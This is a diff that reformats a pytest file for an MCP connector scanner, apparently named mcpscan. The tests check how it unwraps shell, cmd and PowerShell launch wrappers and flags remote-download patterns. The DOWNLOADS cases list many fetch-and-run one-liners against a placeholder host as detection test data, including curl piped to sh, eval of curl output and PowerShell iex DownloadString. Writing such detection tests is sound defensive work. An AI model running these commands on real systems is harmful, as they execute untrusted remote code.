@@ -12,8 +12,15 @@ from mcpscan.sources.launchers.scripts import parse
 
 
 def run(command: str, *args: str) -> Launch:
-    return unwrap(Connector(name="c", source=SourceLocation("f", 1, "x"), transport="stdio",
-                            command=command, args=args))
+    return unwrap(
+        Connector(
+            name="c",
+            source=SourceLocation("f", 1, "x"),
+            transport="stdio",
+            command=command,
+            args=args,
+        )
+    )
 
 
 def ps_encoded(text: str) -> str:
@@ -22,28 +29,56 @@ def ps_encoded(text: str) -> str:
 
 UNWRAPPED = [
     (("bash", "-lc", "cd /srv && exec npx -y pkg"), "bash -lc", "npx", ("pkg",)),
-    (("sh", "-c", "set -e; export NODE_ENV=production; exec node_modules/.bin/x"), "sh -c",
-     "binary", ()),
-    (("zsh", "-c", "source ~/.nvm/nvm.sh && nvm use 20 && npx -y pkg@1.0.0"), "zsh -c", "npx",
-     ("pkg@1.0.0",)),
+    (
+        ("sh", "-c", "set -e; export NODE_ENV=production; exec node_modules/.bin/x"),
+        "sh -c",
+        "binary",
+        (),
+    ),
+    (
+        ("zsh", "-c", "source ~/.nvm/nvm.sh && nvm use 20 && npx -y pkg@1.0.0"),
+        "zsh -c",
+        "npx",
+        ("pkg@1.0.0",),
+    ),
     (("dash", "-c", "npx -y pkg@1.0.0 2>/dev/null"), "dash -c", "npx", ("pkg@1.0.0",)),
-    (("bash", "-c", "A=1 B=2 exec env C=3 uvx mcp-server-time==1.0 # comment"), "bash -c",
-     "uvx", ("mcp-server-time==1.0",)),
+    (
+        ("bash", "-c", "A=1 B=2 exec env C=3 uvx mcp-server-time==1.0 # comment"),
+        "bash -c",
+        "uvx",
+        ("mcp-server-time==1.0",),
+    ),
     (("sh", "-c", "exec sudo -E npx -y pkg@1.0.0"), "sh -c", "npx", ("pkg@1.0.0",)),
     (("cmd", "/c", "cd /d C:\\srv && npx -y pkg@1.0.0"), "cmd /c", "npx", ("pkg@1.0.0",)),
     (("cmd", "/c", "npx", "-y", "pkg@1.0.0"), None, "npx", ("pkg@1.0.0",)),
-    (("powershell", "-NoProfile", "-ExecutionPolicy", "Bypass", "-Command",
-      "Set-Location C:\\srv; npx -y pkg@1.0.0"), "powershell -Command", "npx", ("pkg@1.0.0",)),
-    (("pwsh", "-EncodedCommand", ps_encoded("npx -y pkg@1.0.0")), "pwsh -EncodedCommand", "npx",
-     ("pkg@1.0.0",)),
+    (
+        (
+            "powershell",
+            "-NoProfile",
+            "-ExecutionPolicy",
+            "Bypass",
+            "-Command",
+            "Set-Location C:\\srv; npx -y pkg@1.0.0",
+        ),
+        "powershell -Command",
+        "npx",
+        ("pkg@1.0.0",),
+    ),
+    (
+        ("pwsh", "-EncodedCommand", ps_encoded("npx -y pkg@1.0.0")),
+        "pwsh -EncodedCommand",
+        "npx",
+        ("pkg@1.0.0",),
+    ),
     (("cd /srv && npx -y pkg@1.0.0",), "the command string", "npx", ("pkg@1.0.0",)),
     (("npx", "-c", "cd /srv && mcp-remote https://x.example/sse"), "npx -c", "npx", ()),
 ]
 
 
 @pytest.mark.parametrize(("argv", "shell", "launcher", "specs"), UNWRAPPED)
-def test_simple_scripts_unwrap_to_their_launch(argv: tuple[str, ...], shell: str | None,
-                                               launcher: str, specs: tuple[str, ...]) -> None:
+def test_simple_scripts_unwrap_to_their_launch(
+    argv: tuple[str, ...], shell: str | None, launcher: str, specs: tuple[str, ...]
+) -> None:
     launch = run(*argv)
     assert launch.shell == shell
     assert launch.launcher == launcher
@@ -53,32 +88,68 @@ def test_simple_scripts_unwrap_to_their_launch(argv: tuple[str, ...], shell: str
 
 
 DOWNLOADS = [
-    (("sh", "-c", "curl -fsSL https://h.example/i.sh | sh"), "https://h.example/i.sh",
-     "curl | sh"),
-    (("sh", "-c", "curl -fsSL https://h.example/i.sh | sudo -E bash -s -- --yes"),
-     "https://h.example/i.sh", "curl | bash"),
-    (("bash", "-c", "wget -qO- https://h.example/i.sh | bash"), "https://h.example/i.sh",
-     "wget | bash"),
-    (("bash", "-c", "source <(curl -s https://h.example/env)"), "https://h.example/env",
-     "process substitution"),
-    (("bash", "-c", "python3 <(curl -s https://h.example/x.py)"), "https://h.example/x.py",
-     "process substitution"),
-    (("sh", "-c", "eval \"$(curl -fsSL https://h.example/e)\""), "https://h.example/e",
-     "command substitution"),
+    (("sh", "-c", "curl -fsSL https://h.example/i.sh | sh"), "https://h.example/i.sh", "curl | sh"),
+    (
+        ("sh", "-c", "curl -fsSL https://h.example/i.sh | sudo -E bash -s -- --yes"),
+        "https://h.example/i.sh",
+        "curl | bash",
+    ),
+    (
+        ("bash", "-c", "wget -qO- https://h.example/i.sh | bash"),
+        "https://h.example/i.sh",
+        "wget | bash",
+    ),
+    (
+        ("bash", "-c", "source <(curl -s https://h.example/env)"),
+        "https://h.example/env",
+        "process substitution",
+    ),
+    (
+        ("bash", "-c", "python3 <(curl -s https://h.example/x.py)"),
+        "https://h.example/x.py",
+        "process substitution",
+    ),
+    (
+        ("sh", "-c", 'eval "$(curl -fsSL https://h.example/e)"'),
+        "https://h.example/e",
+        "command substitution",
+    ),
     (("sh", "-c", "`curl https://h.example/a`"), "https://h.example/a", "command substitution"),
-    (("sh", "-c", "wget https://h.example/run.sh && chmod +x run.sh && ./run.sh"),
-     "https://h.example/run.sh", "download, then run"),
-    (("sh", "-c", "curl -o x.sh https://h.example/x.sh; bash x.sh"), "https://h.example/x.sh",
-     "download, then run"),
-    (("powershell", "-c", "iex (New-Object Net.WebClient).DownloadString('https://h.example/a')"),
-     "https://h.example/a", "iwr | iex"),
-    (("pwsh", "-Command", "irm https://h.example/i.ps1 | iex"), "https://h.example/i.ps1",
-     "iwr | iex"),
-    (("cmd", "/c", "curl -s https://h.example/x.cmd -o x.cmd && x.cmd"), "https://h.example/x.cmd",
-     "download, then run"),
+    (
+        ("sh", "-c", "wget https://h.example/run.sh && chmod +x run.sh && ./run.sh"),
+        "https://h.example/run.sh",
+        "download, then run",
+    ),
+    (
+        ("sh", "-c", "curl -o x.sh https://h.example/x.sh; bash x.sh"),
+        "https://h.example/x.sh",
+        "download, then run",
+    ),
+    (
+        (
+            "powershell",
+            "-c",
+            "iex (New-Object Net.WebClient).DownloadString('https://h.example/a')",
+        ),
+        "https://h.example/a",
+        "iwr | iex",
+    ),
+    (
+        ("pwsh", "-Command", "irm https://h.example/i.ps1 | iex"),
+        "https://h.example/i.ps1",
+        "iwr | iex",
+    ),
+    (
+        ("cmd", "/c", "curl -s https://h.example/x.cmd -o x.cmd && x.cmd"),
+        "https://h.example/x.cmd",
+        "download, then run",
+    ),
     (("curl -fsSL https://h.example/i.sh | sh",), "https://h.example/i.sh", "curl | sh"),
-    (("bash", "-c", "if x; then curl https://h.example/i | sh; fi"), "https://h.example/i",
-     "curl | sh"),
+    (
+        ("bash", "-c", "if x; then curl https://h.example/i | sh; fi"),
+        "https://h.example/i",
+        "curl | sh",
+    ),
 ]
 
 
